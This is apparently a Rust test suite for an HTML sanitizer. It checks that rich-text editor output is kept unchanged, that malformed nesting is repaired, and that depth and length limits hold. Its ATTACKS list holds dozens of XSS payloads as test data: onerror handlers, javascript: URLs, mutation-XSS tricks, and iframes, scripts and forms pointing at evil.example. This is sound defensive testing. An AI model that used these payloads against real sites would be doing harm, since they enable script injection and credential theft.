use std::fmt::Write as _;

use proptest::prelude::*;

use super::oracle::{self, Event, dangers, is_read_as_written};
use super::{MAX_DEPTH, Removed, Sanitized, TooLong};

const LIMIT: usize = 100_000;

fn sanitize(html: &str) -> Sanitized {
    super::sanitize(html, LIMIT).expect("it is short enough")
}

/// Output of the editor with every node and mark; it must stay unchanged.
const EDITOR: &[&str] = &[
    "<p></p>",
    "<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>",
    "<p>plain <strong>bold</strong> <em>slanted</em> <s>struck</s> <u>under</u> <code>code</code></p>",
    "<p>H<sub>2</sub>O, E = mc<sup>2</sup>, <mark>marked</mark>, <small>small</small><br>next line&nbsp;&nbsp;here</p>",
    r##"<p><mark data-color="#ffc078" style="background-color: #ffc078; color: inherit">marked</mark></p>"##,
    r#"<p><span style="color: #958DF1">coloured</span> <span style="color: rgb(149, 141, 241)">too</span></p>"#,
    r#"<p style="text-align: center">centred</p><h2 style="text-align: right">right</h2><p style="text-align: justify;">all</p>"#,
    "<ul><li><p>one</p><ul><li><p>deeper</p></li></ul></li></ul><ol><li><p>two</p></li></ol>",
    r#"<ol start="3" type="a"><li><p>three</p></li></ol>"#,
    r#"<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/?a=1&amp;b=2#c">a link</a></p>"#,
    r##"<p><a href="/stories/x" rel="noopener">here</a>, <a href="#top">up</a>, <a href="mailto:a@example.com">mail</a></p>"##,
    r#"<img src="/uploads/a.webp" alt="a &quot;picture&quot;" title="t" width="1200" height="800" srcset="/uploads/a.webp 1200w, /uploads/a_750.webp 750w, /uploads/a_500.webp 500w" sizes="(max-width: 750px) 100vw, 750px" loading="lazy">"#,
    r#"<figure data-type="figure"><img src="https://example.com/a.png" alt=""><figcaption>Said of it</figcaption></figure>"#,
    r#"<figure><video src="/uploads/v.mp4" controls="" preload="metadata" width="1280" height="720" poster="/uploads/v.webp"></video></figure>"#,
    r#"<video controls="true" muted="" loop="" playsinline=""><source src="/uploads/v.webm" type="video/webm"><source src="/uploads/v.mp4" type="video/mp4"></video>"#,
    r#"<div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" autoplay="false" disablekbcontrols="false" enableiframeapi="false" endtime="0" ivloadpolicy="0" loop="false" modestbranding="false" origin="" playlist="" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=7&amp;rel=1" start="7" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe></div>"#,
    r#"<iframe src="https://player.vimeo.com/video/76979871" allow="autoplay; fullscreen; picture-in-picture" loading="lazy" title="film" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe>"#,
    "<pre><code class=\"language-rust\">fn main() {\n    let a = &amp;b &lt; c &amp;&amp; d &gt; e;\n}\n</code></pre><pre><code>\nblank line first</code></pre>",
    r#"<pre><code class="language-c++">int a;</code></pre><pre class="language-objective-c"><code>x</code></pre>"#,
    r#"<table style="min-width: 75px"><colgroup><col style="min-width: 25px"><col style="width: 200px"><col></colgroup><tbody><tr><th colspan="1" rowspan="1"><p>head</p></th><td colspan="2" rowspan="1" colwidth="100,200"><p style="text-align: right">cell</p></td></tr></tbody></table>"#,
    "<table><caption>c</caption><thead><tr><th scope=\"col\">h</th></tr></thead><tbody><tr><td>d</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>",
    r#"<ul data-type="taskList"><li data-checked="true" data-type="taskItem"><label><input type="checkbox" checked="checked"><span></span></label><div><p>done</p></div></li><li data-checked="false" data-type="taskItem"><label><input type="checkbox" disabled=""><span></span></label><div><p>to do</p></div></li></ul>"#,
    "<blockquote><p>said</p></blockquote><hr><p>a<br>b</p>",
    r#"<p><span data-type="mention" data-id="ada" data-label="Ada" data-mention-suggestion-char="@">@Ada</span></p>"#,
    r#"<details open=""><summary>More</summary><div data-type="detailsContent"><p>inside</p></div></details>"#,
    r#"<p dir="rtl" lang="he">שלום</p><p>日本語 ☕ é &amp; &lt;b&gt;</p>"#,
];

/// Attacks that run scripts or leave the page's frame.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" \u{1}java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe src=\"https://evil.example/embed/x\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/x\"><a title=\"</iframe><img src onerror=alert(1)>\"></iframe>",
    "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">x",
    "<iframe src=\"https://www.youtube.com@evil.example/embed/x\"></iframe>",
    "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
    "<iframe src=\"https://www.youtube.com/redirect?q=https://evil.example\"></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/../redirect\"></iframe>",
    "<iframe src=\"//evil.example/embed/x\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<video><source onerror=\"alert(1)\"></video>",
    "<video poster=\"javascript:alert(1)\" onloadstart=alert(1)></video>",
    "<audio src=\"data:text/html,x\" onerror=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"text-align: expression(alert(1))\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
    "<p class=\"fixed inset-0\" id=\"root\" name=\"x\">x</p>",
    "<form action=\"https://evil.example\"><input name=password type=password><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<input type=\"image\" src=\"x\" onerror=\"alert(1)\"><input autofocus onfocus=alert(1)>",
    "<base href=\"https://evil.example/\"><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x onclick=alert(1)>y</x>",
    "<a href=\"https://evil.example\" target=\"_blank\" rel=\"opener\">x</a>",
    "<a href=\"https://evil.example\" target=\"_blank\">x</a>",
    "<a href=\"x\" target=\"main\" ping=\"https://evil.example\">x</a>",
    "<div data-hx-get=\"/evil\" data-bs-toggle=x hx-on:click=alert(1) x-data=alert(1) @click=x>x</div>",
    "<table><tr><td><a href='java&#x09;script:alert(1)'>x</table>",
    "<p\u{0}onclick=alert(1)>x</p>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<a href=\"\u{a0}javascript:alert(1)\">x</a>",
    "<a href=\"\u{feff}javascript:alert(1)\">x</a>",
    "<a href=\"&Tab;java&NewLine;script&colon;alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<<x>script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "&l<x>t;script>alert(1)&lt<x>;/script>",
    "<h2 id=\"__proto__\" name=\"x\">x</h2>",
    "<span style=\"background:url(//evil.example/x)\">x</span>",
    "<span style=\"color:re\\64;behavior:url(x)\">x</span>",
    "<iframe src=\"https://www.youtube.com/embed/x\" sandbox=\"allow-top-navigation\"></iframe>",
    "<img data-original-src=\"javascript:alert(1)\" src=\"/x\">",
];

#[test]
fn editor_output_is_unchanged() {
    for html in EDITOR {
        let cleaned = sanitize(html);
        assert_eq!(cleaned.html, *html);
        assert_eq!(cleaned.removed, [], "{html}");
    }
    let all = EDITOR.concat();
    assert_eq!(sanitize(&all).html, all);
}

#[test]
fn attacks_are_neutralized() {
    for attack in ATTACKS {
        let cleaned = sanitize(attack);
        assert_eq!(dangers(&cleaned.html), Vec::<String>::new(), "{attack}\n{}", cleaned.html);
        assert_eq!(sanitize(&cleaned.html).html, cleaned.html, "{attack}");
        assert!(is_read_as_written(&cleaned.html), "{attack}\n{}", cleaned.html);
        // The same inside allowed elements.
        let inside = sanitize(&format!("<ul><li><p>before {attack} after</p></li></ul>"));
        assert_eq!(dangers(&inside.html), Vec::<String>::new(), "{attack}\n{}", inside.html);
    }
}

#[test]
fn removed_names_are_reported() {
    let report =
        |html: &str| sanitize(html).removed.iter().map(ToString::to_string).collect::<Vec<_>>().join(", ");
    let cases = [
        ("<p>a</p><script>x</script><p onclick=x>b</p><b onclick=y>c</b>", "script;1, onclick;2"),
        ("<script src=x defer></script>", "script;1"),
        ("<iframe src=//evil.example onload=x></iframe>", "iframe;1, onload;1"),
        ("<p style=\"text-align: left; position: fixed\">x</p>", "style;1"),
        ("<p>a<!-- b --></p>", "comment;1"),
        ("<a href=\"https://example.com\" target=_blank>x</a>", ""),
        ("<table><tr><td>x</table>", ""),
        ("a & b < c", ""),
        ("<h\u{e9}llo>x</h\u{e9}llo><aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa>", "other;2"),
        ("<x\r\nset-cookie:a=b>y", "x;1"),
        ("<a rel=\"opener ugc\">x</a>", "rel;1"),
        ("<b style=\"font-weight:normal\">x</b>", "b;1"),
        ("<td>x</td><input type=text><p title=a title=b>x</p>", "input;1, td;1, title;1"),
    ];
    for (html, expected) in cases {
        assert_eq!(report(html), expected, "{html}");
    }
    // The number of different names is limited.
    let names = (0..30_000).fold(String::new(), |mut names, n| {
        _ = write!(names, "<{}", char::from(b'a' + u8::try_from(n % 26).expect("it is small")));
        _ = write!(names, "{n:x}>");
        names
    });
    assert_eq!(sanitize(&names[..LIMIT]).removed.len(), 101);
}

#[test]
fn allowed_parts_of_values_are_kept() {
    for (html, kept) in [
        ("<p style=\"top: 0; text-align: center\">x</p>", "<p style=\"text-align: center\">x</p>"),
        ("<code class=\"big language-rust\">x</code>", "<code class=\"language-rust\">x</code>"),
        ("<a rel=\"opener ugc\">x</a>", "<a rel=\"ugc noopener\">x</a>"),
        (
            "<a href=\"/x\" target=\"_blank\">x</a>",
            "<a href=\"/x\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
        ),
        (
            "<iframe src=\"https://player.vimeo.com/video/1\" allow=\"camera; autoplay 'src'\">x</iframe>",
            "<iframe src=\"https://player.vimeo.com/video/1\" allow=\"autoplay 'src'\" \
             sandbox=\"allow-scripts allow-same-origin allow-presentation allow-popups\"></iframe>",
        ),
        ("<article><p>x</p></article>", "<p>x</p>"),
        (
            "<b style=\"font-weight:normal\"><p>x</p></b>",
            "<span style=\"font-weight:normal\"><p>x</p></span>",
        ),
    ] {
        assert_eq!(sanitize(html).html, kept);
    }
}

#[test]
fn harmless_values_are_kept_in_any_form() {
    for html in [
        "<img class=\"responsive-image\" data-original-src=\"/uploads/a.jpg\" src=\"/uploads/a.webp\">",
        "<h2 id=\"über-uns\">x</h2>",
        "<p dir=\"RTL\">x</p>",
        "<a target=\"_BLANK\" rel=\"NoFollow NoOpener\" href=\"SMS:+441234\">x</a>",
        "<input type=\"CheckBox\">",
        "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
        "<span style=\"color: rebeccapurple\">x</span>",
        "<span style=\"color: hsl(120deg 75% 25% / 60%)\">x</span>",
        "<span style=\"color: rgb(149 141 241 / 0.5)\">x</span>",
        "<mark style=\"background-color: var(--tt-color-highlight-blue)\">x</mark>",
        "<span style=\"font-family: &quot;Comic Sans MS&quot;, cursive; font-size: 14px; line-height: 1.5\">x</span>",
        "<table><tbody><tr><td align=\"center\" style=\"background-color: #ff0\">x</td></tr></tbody></table>",
        "<span data-type=\"emoji\" data-name=\"smile\">x</span>",
        "<img srcset=\"/t/w:400,h:300/a.webp 400w, /b.webp 800w,\">",
        "a\u{a0}b&nbsp;c & d &amp; e 1 < 2 > 0 &copy; &#8217;",
        "<p title=\"a\u{a0}b & c <d>\">x</p>",
        "<p title=\"a&#13;b\">x&#13;y</p>",
        "<br/><hr /><p>x</p>",
        "<pre>\n\ncode</pre>",
    ] {
        let cleaned = sanitize(html);
        assert_eq!(cleaned.html, html);
        assert_eq!(cleaned.removed, [], "{html}");
    }
}

#[test]
fn wrong_nesting_is_repaired() {
    for (html, repaired) in [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        (
            "<ul><li>a<li>b<ul><li>c</ul><li>d</ul>",
            "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>",
        ),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
        ("<b><p>x</b>y</p>z", "<b><p>xy</p></b>z"),
        ("<a href=\"/1\">x<a href=\"/2\">y</a>", "<a href=\"/1\">x</a><a href=\"/2\">y</a>"),
        ("<a href=\"/1\"><p>x<a href=\"/2\">y</a></p></a>", "<a href=\"/1\"><p>xy</p></a>"),
        ("<h1>a<h2>b</h1>c", "<h1>a</h1><h2>b</h2>c"),
        (
            "<table><td>a<td>b<tr><th>c</table>d",
            "<table><tbody><tr><td>a</td><td>b</td></tr><tr><th>c</th></tr></tbody></table>d",
        ),
        ("<table>a<tr><td>b</table>", "<table><tbody><tr><td>a</td></tr><tr><td>b</td></tr></tbody></table>"),
        (
            "<table><col><tr><td>b</table>",
            "<table><colgroup><col></colgroup><tbody><tr><td>b</td></tr></tbody></table>",
        ),
        ("<ruby>a<rt>b<rt>c</ruby>", "<ruby>a<rt>b</rt><rt>c</rt></ruby>"),
        ("<p>a<center>b</center>c", "<p>a</p>bc"),
        ("</p>a</br>b</td>", "a<br>b"),
        ("<svg><circle/><p>x", "<p>x</p>"),
        ("&am<x>p; 1 <<x>b", "&amp;amp; 1 &lt;b"),
        ("<pre><x>\na</pre>", "<pre>\n\na</pre>"),
        ("a\r\nb\rc\0d", "a\nb\ncd"),
        ("<p title=a&quot;b&copy c='\"'>x", "<p title=\"a&quot;b©\">x</p>"),
        ("<p title=a&#xd;b>x", "<p title=\"a&#13;b\">x</p>"),
        ("<P DIR=ltr>x</P >", "<p dir=\"ltr\">x</p>"),
        ("x<p title=\"", "x"),
    ] {
        assert_eq!(sanitize(html).html, repaired, "{html}");
    }
}

/// Elements without content, and those that the next one ends, are not nested.
#[test]
fn only_elements_that_are_too_deep_are_flattened() {
    for html in [
        "<link>".repeat(200),
        "<option>x".repeat(200),
        "<w:LsdException Locked=\"false\"/>".repeat(400),
        "<br>".repeat(200),
        "<li>x".repeat(200),
    ] {
        let cleaned = sanitize(&format!("<p><b>bold</b></p><ul>{html}</ul><p><i>x</i></p>"));
        assert!(cleaned.html.starts_with("<p><b>bold</b></p><ul>"), "{}", cleaned.html);
        assert!(cleaned.html.ends_with("</ul><p><i>x</i></p>"), "{}", cleaned.html);
    }
    let lists = format!("{}<p>x</p>{}", "<ul><li>".repeat(99), "</li></ul>".repeat(99));
    assert_eq!(sanitize(&lists).html, lists);

    let deep = |depth: usize| format!("<i>a</i>{}x{}<i>b</i>", "<div>".repeat(depth), "</div>".repeat(depth));
    let cleaned = sanitize(&deep(MAX_DEPTH + 3));
    assert_eq!(cleaned.html, deep(MAX_DEPTH));
    assert_eq!(cleaned.removed, [Removed { name: "div".into(), count: 3 }]);
    assert_eq!(cleaned.removed[0].to_string(), "div;3");
}

/// Nests one tag as deep as the maximum length of content allows.
#[test]
fn deep_nesting_is_limited() {
    for tag in [
        "<b>",
        "<p>",
        "<ul><li>",
        "<table>",
        "<a>",
        "<div>",
        "<table><a>",
        "<svg>",
        "<font>",
        "<i><p>",
        "<table><td>",
    ] {
        let html = tag.repeat(50_000 / tag.len());
        match super::sanitize(&html, LIMIT) {
            Ok(cleaned) => {
                assert_eq!(sanitize(&cleaned.html).html, cleaned.html, "{tag}");
                assert!(is_read_as_written(&cleaned.html), "{tag}");
                assert!(depth(&cleaned.html) <= MAX_DEPTH, "{tag}");
            }
            Err(TooLong { limit }) => assert_eq!(limit, html.len() + html.len() / 5, "{tag}"),
        }
    }
}

#[test]
fn output_is_limited() {
    // As it was written when it was stored, a text is accepted again.
    for text in ["&", "<", ">", "\u{a0}", "é", "&amp;", "\"", "<p>a</p>", "<br>", "<p>☕</p>"] {
        // A `<` at the end is encoded.
        let text = text.repeat((LIMIT - 3) / text.chars().count());
        let cleaned = sanitize(&text);
        assert_eq!(sanitize(&cleaned.html), Sanitized { html: cleaned.html.clone(), removed: vec![] });
        assert!(cleaned.html.chars().count() <= LIMIT);
    }
    let quoted = "<p>a".repeat(LIMIT / 4);
    assert_eq!(super::sanitize(&quoted, LIMIT), Err(TooLong { limit: LIMIT }));
    assert_eq!(super::sanitize(&"a".repeat(LIMIT + 1), LIMIT), Err(TooLong { limit: LIMIT }));
    assert_eq!(super::sanitize(&quoted[..20_000], LIMIT), Err(TooLong { limit: 24_000 }));
    // A short text may grow.
    assert_eq!(sanitize(&quoted[..400]).html.len(), 800);
}

fn depth(html: &str) -> usize {
    let (mut now, mut deepest) = (0_usize, 0_usize);
    for event in oracle::tokens(html) {
        match event {
            Event::Start(..) => now += 1,
            Event::End(_) => now -= 1,
            _ => {}
        }
        deepest = deepest.max(now);
    }
    deepest
}

/// Pieces of random texts.
const PIECES: &[&str] = &[
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<a href=/x>",
    "<a target=_blank>",
    "</a>",
    "<table>",
    "</table>",
    "<tr>",
    "<td>",
    "</td>",
    "<caption>",
    "<col>",
    "<pre>",
    "</pre>",
    "\n",
    "\r",
    "&#13;",
    "&#0;",
    "\0",
    "<ul>",
    "<li>",
    "</ul>",
    "<h1>",
    "<h2>",
    "<br>",
    "</br>",
    "<hr>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<mglyph>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "<iframe>",
    "<iframe src=https://www.youtube.com/embed/x>",
    "</iframe>",
    "<noscript>",
    "</noscript>",
    "<textarea>",
    "</textarea>",
    "<title>",
    "<select>",
    "<option>",
    "<input>",
    "<input type=checkbox>",
    "<form>",
    "</form>",
    "<template>",
    "<img src=x onerror=y>",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "&lt;",
    "&amp",
    "&nbsp;",
    "<",
    ">",
    "\"",
    "'",
    "=",
    " ",
    "x",
    "<details>",
    "<summary>",
    "<figure>",
    "<video src=/v>",
    "</div>",
    "<div style='text-align:left;x'>",
    "<code class='language-a b'>",
    "<plaintext>",
    "<frameset>",
    "<body a=b>",
    "<nobr>",
    "<button>",
    "<ruby>",
    "<rt>",
    "<dd>",
    "<dt>",
    "<xmp>",
    "<foreignObject>",
    "<desc>",
    "<p title='<img>'>",
    "<ruby>",
    "<rp>",
    "</p>",
    "</table>",
    "</td>",
    "</caption>",
    "<colgroup>",
    "<tbody>",
    "<th>",
    "<table><tr><td>",
    "<h2 id=a>",
    "</h1>",
    "<dl>",
    "<b style='font-weight:normal'>",
    "<article>",
    "</article>",
    "<blockquote>",
    "</blockquote>",
    "<span>",
    "</span>",
    "</li>",
    "<p title=\"a&quot;b&am\" dir=x a='b\"c' title=y>",
    "<a href='?a=1&copy=2&lt=&ampx'>",
    "&am",
    "p;",
    "&#38",
    "&#x3c;",
    "</",
    "</>",
    "<?",
    "<!",
    "<!doctype html>",
    "\u{a0}",
    "1 < 2",
];

fn pieces() -> impl Strategy<Value = String> {
    let word = prop_oneof![
        8 => prop::sample::select(PIECES.to_vec()).prop_map(str::to_owned),
        2 => prop::sample::select(EDITOR.to_vec()).prop_map(str::to_owned),
        2 => prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned),
        1 => "\\PC{0,8}",
    ];
    prop::collection::vec(word, 0..24).prop_map(|words| words.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 10_000, ..ProptestConfig::default() })]

    #[test]
    fn what_is_stored_is_accepted_again_and_unchanged(html in pieces()) {
        let once = sanitize(&html);
        let twice = sanitize(&once.html);
        prop_assert_eq!(&once.html, &twice.html);
        prop_assert_eq!(twice.removed, vec![]);
        prop_assert_eq!(dangers(&once.html), Vec::<String>::new());
        prop_assert!(is_read_as_written(&once.html), "{}", once.html);
        let length = html.chars().count();
        prop_assert!(once.html.chars().count() <= length + (length / 5).max(super::MAX_GROWTH));
    }

    #[test]
    fn tokens_are_those_of_the_standard(html in pieces()) {
        let html = super::normalize_line_breaks(&html);
        prop_assert_eq!(oracle::markup(&html), oracle::own_markup(&html));
    }
}
